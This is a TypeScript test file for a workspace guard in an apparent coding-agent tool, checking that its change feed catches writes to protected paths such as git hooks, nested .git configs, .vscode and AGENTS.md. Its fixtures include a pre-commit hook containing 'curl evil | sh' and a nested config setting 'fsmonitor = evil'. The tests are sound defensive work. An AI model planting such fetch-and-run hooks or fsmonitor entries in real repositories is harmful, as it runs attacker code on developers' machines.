// The protected guard on the workspace's change feed (guardBaseline, guardScan): after the first walk a
// command's check looks only at what changed, and still catches protected paths the feed does not
// watch into or that lie in git-ignored folders (.git's hooks, the state folder, a nested .git, a
// git-ignored .vscode/), sees a user's approved write between commands as the user's, and walks when
// the feed cannot be trusted (overflow) or the ignore file changed. Its view always equals a fresh walk's.
import { afterEach, beforeEach, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync, appendFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { ChangeFeed } from '../../../src/core/fs/changeFeed';
import { GuardedRun, type GuardOptions } from '../../../src/core/sandbox/protectedGuard';
import { GuardBaseline } from '../../../src/core/sandbox/guardBaseline';
import { scanWithGitParts } from '../../../src/core/sandbox/guardScan';
import type { WorkspaceScan } from '../../../src/core/sandbox/workspaceScan';
import { createIgnoreFilter } from '../../../src/core/policy/path';
import { ignoredNow } from '../../../src/core/tools/policyAdapters';

let root: string;
let feed: ChangeFeed;
let options: GuardOptions;

const write = (rel: string, text = 'x\n') => {
  mkdirSync(path.dirname(path.join(root, rel)), { recursive: true });
  writeFileSync(path.join(root, rel), text);
};

beforeEach(() => {
  root = realpathSync(mkdtempSync(path.join(os.tmpdir(), 'pp-guard-feed-')));
  write('.git/config', '[core]\n');
  write('.git/hooks/pre-commit.sample');
  write('.gitignore', 'dist/\n.vscode/\n');
  write('.patchpilotignore', 'secrets/\n');
  write('secrets/key.pem', 'PEM-SECRET-0123456789\n');
  write('dist/app.js');
  write('sub/.git/config', '[core]\n');
  write('pkg/config', 'plain\n');
  for (let i = 0; i < 30; i++) write(`src/d${i % 5}/f${i}.ts`);
  feed = new ChangeFeed(root, path.join(root, '.patchpilot', 'checkpoints', 'feed'), '.patchpilot');
  options = { root, ignored: ignoredNow(createIgnoreFilter(root), []), baseline: new GuardBaseline(feed) };
});

afterEach(() => {
  options.baseline?.dispose();
  feed.close();
  rmSync(root, { recursive: true, force: true });
});

/** What the guard's view says, in a form two views can be compared by. */
function view(scan: WorkspaceScan) {
  const rels = (xs: { rel: string }[]) => xs.map((e) => e.rel).sort();
  return {
    ignored: rels(scan.ignored),
    ignoredFiles: rels(scan.ignoredFiles),
    protectedTop: rels(scan.protectedTop),
    protectedAll: [...scan.protectedAll.keys()].sort(),
    linked: rels(scan.linkedToIgnored),
    gitDir: !!scan.gitDir,
  };
}

describe('protected guard on the change feed', () => {
  test('after the first walk, a command is checked from the feed, and protected paths the feed does not watch into are still caught', async () => {
    const first = await GuardedRun.begin(options);
    assert.equal(first.beginMode, 'walk');
    assert.deepEqual(await first.end(), []);
    assert.equal(first.endMode, 'feed');

    const guard = await GuardedRun.begin(options);
    assert.equal(guard.beginMode, 'feed');
    // What a command does: git hooks, the state folder, a nested repository's config, a git-ignored
    // .vscode/ and a git-ignored build folder, an instruction file, a bare-repository layout next to a plain `config`.
    write('.git/hooks/pre-commit', 'curl evil | sh\n');
    write('.patchpilot/notes.md');
    write('sub/.git/config', '[core]\n\tfsmonitor = evil\n');
    write('.vscode/tasks.json');
    write('dist/.envrc');
    write('AGENTS.md');
    write('pkg/HEAD');
    write('pkg/objects/x');
    write('pkg/refs/heads/main');
    write('src/d1/plain.ts');
    const changes = await guard.end();
    assert.equal(guard.endMode, 'feed');
    const byPath = Object.fromEntries(changes.map((c) => [c.path, c.change]));
    assert.deepEqual(byPath, {
      '.git/hooks/pre-commit': 'created',
      '.patchpilot/notes.md': 'created',
      'sub/.git/config': 'modified',
      '.vscode': 'created',
      'dist/.envrc': 'created',
      'AGENTS.md': 'created',
      'pkg/HEAD': 'created',
      'pkg/config': 'created',
      'pkg/objects': 'created',
      'pkg/refs': 'created',
    });
  });

  test("a user's write between commands is the user's; a new ignored file is masked at the next command", async () => {
    await (await GuardedRun.begin(options)).end();
    write('.vscode/settings.json', '{}\n'); // approved through write_file, before the command
    write('secrets/new.pem', 'NEW-SECRET-0123456789\n');
    const guard = await GuardedRun.begin(options);
    assert.equal(guard.beginMode, 'feed');
    assert.ok(guard.scan.protectedAll.has('.vscode/settings.json'));
    assert.ok(
      guard.scan.ignoredFiles.some((e) => e.rel === 'secrets/new.pem'),
      'its content is cut from the output',
    );
    assert.deepEqual(await guard.end(), []);
  });

  test('the view from the feed equals a fresh walk after creations, deletions, renames and a replaced folder', async () => {
    await (await GuardedRun.begin(options)).end();
    const guard = await GuardedRun.begin(options);
    write('a/.npmrc');
    write('a/b/.github/workflows/ci.yml');
    rmSync(path.join(root, 'src', 'd2'), { recursive: true });
    write('src/d2/.env.local');
    rmSync(path.join(root, 'sub'), { recursive: true });
    write('sub/.vscode/launch.json');
    write('secrets/other.pem', 'OTHER-SECRET-0123456789\n');
    write('bare/HEAD');
    write('bare/objects/1');
    write('bare/refs/x');
    rmSync(path.join(root, 'pkg', 'config'));
    const after = await options.baseline!.after(options, guard.scan, (guard as unknown as { session: never }).session);
    assert.equal(after.mode, 'feed');
    assert.deepEqual(view(after.scan), view(await scanWithGitParts(options)));
  });

  test('more events than the kernel queue may hold: the check walks, and still catches the change', async () => {
    await (await GuardedRun.begin(options)).end();
    const guard = await GuardedRun.begin(options);
    for (let i = 0; i < 9000; i++) writeFileSync(path.join(root, 'src', 'd0', `n${i}.ts`), '');
    write('.envrc');
    const changes = await guard.end();
    assert.equal(guard.endMode, 'walk');
    assert.deepEqual(
      changes.map((c) => c.path),
      ['.envrc'],
    );
  });

  test('a changed ignore file makes the next command walk (every path may be classed anew)', async () => {
    await (await GuardedRun.begin(options)).end();
    appendFileSync(path.join(root, '.patchpilotignore'), 'src/d3/\n');
    const guard = await GuardedRun.begin(options);
    assert.equal(guard.beginMode, 'walk');
    assert.ok(guard.scan.ignored.some((e) => e.rel === 'src/d3'));
    await guard.end();
  });
});
